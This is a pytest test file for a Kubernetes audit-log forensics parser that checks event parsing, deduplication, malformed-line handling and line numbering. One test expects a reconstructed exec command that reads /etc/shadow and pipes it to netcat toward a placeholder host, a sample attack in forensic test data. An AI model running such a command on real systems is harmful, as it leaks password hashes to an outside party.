"""Native audit.k8s.io Events: JSONL (fast DuckDB route and Python route), EventList,
v1beta1, truncated and malformed lines, exec reconstruction, dedup."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sources_helpers import by_id

EXEC = "a1000000-0000-0000-0000-000000000001"
WS_EXEC = "a1000000-0000-0000-0000-000000000002"
SECRETS = "a1000000-0000-0000-0000-000000000003"
POD = "a1000000-0000-0000-0000-000000000004"
CUT = "a1000000-0000-0000-0000-000000000005"


def test_exec_command_reconstructed_from_request_uri(read, fixtures: Path) -> None:
    result, rows = read(fixtures / "native-clean.jsonl")
    ev = by_id(rows)
    # command= repeated, %XX and "+" decoded as Go's url.Values encodes them
    assert ev[EXEC]["exec_command"] == ["sh", "-c", "cat /etc/shadow | nc x 1"]
    assert ev[EXEC]["exec_container"] == "app"
    assert ev[WS_EXEC]["verb"] == "get"  # kubectl >= 1.30 execs over WebSocket
    assert ev[WS_EXEC]["exec_command"] == ["id"]
    assert ev[SECRETS]["exec_command"] is None
    assert result.events_by_source == {"native/jsonl": 5}


def test_contract_columns_filled(read, fixtures: Path) -> None:
    _, rows = read(fixtures / "native-clean.jsonl")
    pod = next(r for r in rows if r["audit_id"] == POD and r["stage"] == "ResponseComplete")
    assert pod["username"] == "alice"
    assert pod["user_groups"] == ["system:authenticated"]
    assert pod["source_ips"] == ["203.0.113.7", "10.0.0.4"]
    assert (pod["obj_resource"], pod["obj_namespace"], pod["obj_name"]) == (
        "pods",
        "kube-system",
        "evil",
    )
    assert pod["response_code"] == 201
    assert json.loads(pod["request_object"])["spec"]["hostPID"] is True
    assert json.loads(pod["annotations"])["authorization.k8s.io/decision"] == "allow"
    assert pod["stage_timestamp"] == datetime(2024, 5, 1, 10, 0, 0, 250000, tzinfo=UTC)
    assert pod["provider"] == "native" and pod["envelope"] == "jsonl"
    assert pod["source_line"] == 5
    assert pod["event_key"] == f"native:{POD}:ResponseComplete"
    assert json.loads(pod["raw"])["auditID"] == POD
    assert pod["truncated"] is False


@pytest.mark.parametrize("keep_raw", [True, False])
def test_fast_route_equals_python_route(read, fixtures: Path, keep_raw: bool) -> None:
    fast_result, fast = read(fixtures / "native-clean.jsonl", keep_raw=keep_raw)
    slow_result, slow = read(fixtures / "native-clean.jsonl", native_fast=False)
    assert fast_result.events_read == slow_result.events_read == 5
    for a, b in zip(fast, slow, strict=True):
        for col in a:
            if col == "raw":
                if keep_raw:
                    assert json.loads(a[col]) == json.loads(b[col])
                else:
                    assert a[col] is None
            elif col in ("request_object", "response_object", "annotations", "user_extra"):
                assert (a[col] and json.loads(a[col])) == (b[col] and json.loads(b[col])), col
            else:
                assert a[col] == b[col], col


def test_fast_route_line_numbers_agree_with_python_route(read, tmp_path: Path) -> None:
    """DuckDB skips blank lines without counting them; source_line is the record number in
    both routes, and caveats give the physical line."""
    events = [
        {
            "kind": "Event",
            "auditID": f"id-{i}",
            "stage": "ResponseComplete",
            "verb": "get",
            "requestURI": "/api/v1/pods",
        }
        for i in range(3)
    ]
    p = tmp_path / "blank.jsonl"
    p.write_text(
        json.dumps(events[0])
        + "\n\n"
        + json.dumps(events[1])
        + "\n  \n"
        + json.dumps(events[2])
        + "\n"
    )
    _, fast = read(p)
    _, slow = read(p, native_fast=False)
    assert [r["source_line"] for r in fast] == [r["source_line"] for r in slow] == [1, 2, 3]


def test_malformed_truncated_and_duplicate_lines(read, fixtures: Path) -> None:
    result, rows = read(fixtures / "native-events.jsonl")
    ev = by_id(rows)
    # 10 non-blank lines: 6 events + 1 salvaged cut + 1 non-event + 1 garbage + 1 duplicate
    assert result.events_read == 6
    assert result.duplicates == 1
    assert result.skipped == {"not an audit record": 1}
    cut = ev[CUT]
    assert cut["truncated"] is True
    assert cut["verb"] == "delete"
    assert cut["request_uri"] == "/api/v1/namespaces/prod/events/x"
    kinds = [(c.kind, c.provenance.location if c.provenance else ()) for c in result.caveats]
    assert ("malformed-line", ("line 7",)) in kinds  # physical line (line 3 is blank)
    assert ("malformed-line", ("line 9",)) in kinds
    assert any(c.kind == "duplicates" and c.details["count"] == 1 for c in result.caveats)
    # the rest of the file after the broken lines was read: the duplicate on the last line
    # was seen (and dropped in favour of the first)
    assert ev[EXEC]["source_line"] == 1


def test_eventlist_document_and_lines(read, fixtures: Path) -> None:
    result, rows = read(fixtures / "native-eventlist.json")
    assert {r["audit_id"] for r in rows} == {EXEC, SECRETS}
    assert result.events_by_source == {"native/eventlist": 2}
    assert result.skipped == {"native: EventList item that is not an Event": 1}
    result, rows = read(fixtures / "native-eventlist-lines.jsonl")
    assert result.events_by_source == {"native/eventlist": 2}
    assert [r["source_line"] for r in rows] == [1, 2]


def test_v1beta1_event_uses_top_level_timestamp(read, fixtures: Path) -> None:
    _, rows = read(fixtures / "native-v1beta1.jsonl")
    (row,) = rows
    assert row["stage_timestamp"] == datetime(2018, 10, 25, 13, 58, 49, tzinfo=UTC)
    assert row["username"] == "system:anonymous"
    assert row["obj_resource"] == "namespaces"


def test_dedup_keeps_first_seen_across_files(read, fixtures: Path, tmp_path: Path) -> None:
    copy = tmp_path / "copy.jsonl"
    copy.write_bytes((fixtures / "native-clean.jsonl").read_bytes())
    result, rows = read([fixtures / "native-clean.jsonl", copy])
    assert result.events_read == 5
    assert result.duplicates == 5
    assert {r["source_file"] for r in rows} == {str(fixtures / "native-clean.jsonl")}


@pytest.mark.parametrize("keep_raw", [True, False])
def test_mistyped_field_is_kept_in_raw(read, tmp_path: Path, keep_raw: bool) -> None:
    ev = {
        "kind": "Event",
        "auditID": "x1",
        "stage": "ResponseComplete",
        "verb": "get",
        "requestURI": "/api/v1/pods",
        "user": "bob",
    }
    p = tmp_path / "typed.jsonl"
    p.write_text(json.dumps(ev) + "\n")
    result, rows = read(p, keep_raw=keep_raw)
    assert rows[0]["username"] is None
    assert rows[0]["verb"] == "get"
    assert json.loads(rows[0]["raw"])["user"] == "bob"
    # without keep_raw DuckDB's typed reader refuses the file; the Python route reads it and
    # says which field it could not type (with keep_raw the value is only in raw)
    assert any(c.kind == "field-type" for c in result.caveats) is not keep_raw


def test_refused_staging_batch_is_loaded_in_halves(
    read, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """When DuckDB refuses a whole staged batch (e.g. over its memory limit), the batch is
    loaded in halves, not record by record, and only a record refused alone is reported."""
    import duckdb

    from podmortem.audit.sources import staging

    calls: list[int] = []
    real = staging.Stager._insert

    def refusing(self: staging.Stager, path: Path, *, lenient: bool = False) -> None:
        lines = path.read_bytes().splitlines()
        calls.append(len(lines))
        # refuse any part of more than 8 records, and the record of auditID "n13" alone
        if len(lines) > 8 or any(b'"n13"' in ln for ln in lines):
            raise duckdb.InvalidInputException("refused")
        real(self, path, lenient=lenient)

    monkeypatch.setattr(staging.Stager, "_insert", refusing)
    p = tmp_path / "many.jsonl"
    events = [
        {
            "kind": "Event",
            "auditID": f"n{i}",
            "stage": "ResponseComplete",
            "verb": "get",
            "requestURI": f"/api/v1/pods/{i}",
        }
        for i in range(100)
    ]
    p.write_text("".join(json.dumps(e) + "\n" for e in events))
    result, rows = read(p, native_fast=False)
    assert sorted(int(r["audit_id"][1:]) for r in rows) == [i for i in range(100) if i != 13]
    assert sorted(r["source_line"] for r in rows) == [i + 1 for i in range(100) if i != 13]
    unloadable = [c for c in result.caveats if c.kind == "unloadable"]
    assert len(unloadable) == 1
    assert "line 14" in str(unloadable[0].to_dict())
    assert len(calls) < 60  # not one load per record


def _events(n: int, prefix: str = "id") -> list[dict[str, object]]:
    return [
        {
            "kind": "Event",
            "auditID": f"{prefix}-{i}",
            "stage": "ResponseComplete",
            "verb": "get",
            "requestURI": f"/api/v1/namespaces/ns/pods/p{i}",
        }
        for i in range(n)
    ]


def test_carriage_returns_are_read_as_by_the_python_route(read, tmp_path: Path) -> None:
    """The line reader refuses a carriage return (the Python route splits on LF only);
    the JSON-objects reader then reads the file, with the same rows."""
    p = tmp_path / "crlf.jsonl"
    p.write_bytes(b"".join(json.dumps(e).encode() + b"\r\n" for e in _events(3)))
    fast_result, fast = read(p)
    _, slow = read(p, native_fast=False)
    assert fast_result.events_read == 3
    assert [(r["audit_id"], r["source_line"]) for r in fast] == [
        (r["audit_id"], r["source_line"]) for r in slow
    ]
    assert all(json.loads(r["raw"])["verb"] == "get" for r in fast)


def test_line_numbers_after_rows_deleted_from_an_earlier_file(read, tmp_path: Path) -> None:
    """Rows of a later file are numbered from its own first row, whatever rowids earlier
    deletions (residue, duplicates) left behind; an event without an auditID is keyed by
    its file and line."""
    first = tmp_path / "a.jsonl"
    first.write_text("\n".join([*(json.dumps(e) for e in _events(2, "a")), "{not json"]) + "\n")
    anonymous = {k: v for k, v in _events(1)[0].items() if k != "auditID"}
    second = tmp_path / "b.jsonl"
    second.write_text(
        "\n\n".join([json.dumps(e) for e in _events(2, "b")] + [json.dumps(anonymous)])
    )
    result, rows = read([first, second])
    assert result.events_read == 5
    lines = {(Path(r["source_file"]).name, r["audit_id"]): r["source_line"] for r in rows}
    assert lines == {
        ("a.jsonl", "a-0"): 1,
        ("a.jsonl", "a-1"): 2,
        ("b.jsonl", "b-0"): 1,
        ("b.jsonl", "b-1"): 2,
        ("b.jsonl", None): 3,
    }
    keys = [r["event_key"] for r in rows if r["audit_id"] is None]
    assert keys == [f"native:{second}:3"]
    assert [c.kind for c in result.caveats] == ["malformed-line"]


@pytest.mark.parametrize("keep_raw", [True, False])
def test_line_longer_than_the_fast_routes_take(read, tmp_path: Path, keep_raw: bool) -> None:
    """The parallel line routes take lines up to FAST_LINE; a longer one (a big response
    body) makes them refuse the file, and the next route, with the Python limit, reads it
    whole."""
    from podmortem.audit.sources.mapping import FAST_LINE

    big = {**_events(1, "big")[0], "responseObject": {"blob": "x" * (FAST_LINE + 1024)}}
    p = tmp_path / "big.jsonl"
    p.write_text("\n".join(json.dumps(e) for e in [*_events(2), big]) + "\n")
    result, rows = read(p, keep_raw=keep_raw)
    assert result.events_read == 3 and not result.caveats
    assert [r["source_line"] for r in rows] == [1, 2, 3]
    assert len(rows[2]["response_object"]) > FAST_LINE


def test_table_of_an_earlier_version_gains_the_new_columns(fixtures: Path) -> None:
    """A case index made before a column was added (log_name) is analysed again: the
    column is added, and inserts name their columns, so that none lands in another's place."""
    import duckdb

    from podmortem.audit.model import COLUMNS
    from podmortem.audit.sources import load

    con = duckdb.connect()
    old = [(c, t) for c, t, _ in COLUMNS if c != "log_name"]
    con.execute(f"CREATE TABLE audit_events ({', '.join(f'{c} {t}' for c, t in old)})")
    result = load(con, [fixtures / "native-clean.jsonl"])
    assert result.events_read == 5
    rows = con.execute(
        "SELECT provider, source_line, log_name, verb FROM audit_events ORDER BY source_line"
    ).fetchall()
    assert [r[:3] for r in rows] == [("native", i, None) for i in range(1, 6)]
    assert all(isinstance(r[3], str) for r in rows)
